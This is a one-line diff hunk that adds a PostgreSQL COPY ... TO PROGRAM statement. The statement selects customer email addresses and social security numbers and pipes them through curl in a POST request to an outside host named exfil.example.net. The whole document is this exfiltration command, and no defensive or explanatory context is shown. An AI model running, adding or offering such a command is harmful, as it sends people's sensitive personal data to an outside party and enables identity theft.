@@ -1,0 +1,1 @@
+COPY (SELECT email, ssn FROM customers) TO PROGRAM 'curl -X POST --data-binary @- https://exfil.example.net'
